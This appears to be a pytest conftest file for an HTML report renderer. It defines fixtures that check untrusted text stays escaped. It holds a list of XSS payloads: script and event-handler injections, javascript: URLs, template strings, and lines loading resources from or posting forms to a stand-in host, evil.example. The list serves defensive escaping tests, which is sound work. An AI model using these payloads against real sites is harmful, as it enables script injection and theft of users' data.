"""What the tests of the renderings share."""

from __future__ import annotations

import shutil

import pytest

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

#: Text that becomes code wherever it is not escaped for its place: element, attribute, script, style, URL.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>go</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}{% raw %}{% endraw %}{# x #}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "a\N{LINE SEPARATOR}b\N{PARAGRAPH SEPARATOR}c",
)


@pytest.fixture(scope="session")
def payloads():
    """Text that must stay text."""
    return PAYLOADS


@pytest.fixture(scope="session")
def hostile(factory, payloads):
    """A report with every payload in every place that takes text from elsewhere."""
    from mtqa.data import CheckInfo, Document, Suggestion
    from mtqa.mqm import Category, Severity

    base = factory.doc("\n\n".join(payloads))
    document = Document(
        " ".join(payloads),
        base.text,
        '"><script>alert(1)</script>',
        base.blocks,
        base.segments,
        notices=payloads,
    )
    severities = list(Severity)
    findings = [
        factory.finding(
            document,
            block.span,
            check=payload,
            severity=severities[n % 4],
            message=f"message {payload}",
            suggestions=[Suggestion(payload, payload, payload), Suggestion(f"x{payload}", payload, payload)],
            evidence=[(payload, payload)] * 4,
            related=[block.span],
        )
        for n, (payload, block) in enumerate(zip(payloads, document.blocks, strict=True))
    ]
    checks = [CheckInfo(p, f"title {p}", Category.SPELLING, Severity.MINOR, doc=f"{p}\n\nrest {p}") for p in payloads]
    fluency = factory.fluency(document)
    fluency = type(fluency)(
        fluency.score,
        payloads[0],
        fluency.typical,
        fluency.n_tokens,
        fluency.surprisal,
        fluency.bits_per_char,
        fluency.perplexity,
        fluency.segments,
        payloads[4],
        payloads[6],
    )
    return factory.report(
        document,
        findings,
        fluency=fluency,
        checks=checks,
        skipped=[(payload, payload) for payload in payloads],
        signature=" ".join(payloads),
    )


@pytest.fixture(scope="module")
def chromium():
    """One browser for the module."""
    if CHROMIUM is None:
        pytest.skip("needs chromium, chromium-browser or google-chrome on the PATH")
    api = pytest.importorskip("playwright.sync_api", reason="needs playwright (pip install 'mtqa[dev]')")
    with api.sync_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield browser
        browser.close()


@pytest.fixture
def visit(chromium, tmp_path):
    """Open a page under ``file://``; afterwards, it must have been silent and have asked for nothing."""
    contexts, noise = [], []

    def open_page(html, *, width=1280, height=900, scheme="light", before=""):
        path = tmp_path / "report.html"
        path.write_text(html, encoding="utf-8")
        context = chromium.new_context(
            viewport={"width": width, "height": height}, color_scheme=scheme, reduced_motion="reduce"
        )
        contexts.append(context)
        page = context.new_page()
        page.on("console", lambda message: noise.append(f"console: {message.text}"))
        page.on("pageerror", lambda error: noise.append(f"error: {error}"))
        page.on("dialog", lambda dialog: (noise.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on(
            "request",
            lambda request: request.url.startswith((path.as_uri(), "blob:")) or noise.append(f"request: {request.url}"),
        )
        page.add_init_script(
            "document.addEventListener('securitypolicyviolation', (e) => console.error('CSP', e.violatedDirective))"
        )
        if before:
            page.add_init_script(before)
        page.goto(path.as_uri())
        return page

    yield open_page
    for context in contexts:
        context.close()
    # the icon is a data: address in the page itself
    assert [line for line in noise if not line.startswith("request: data:,")] == []
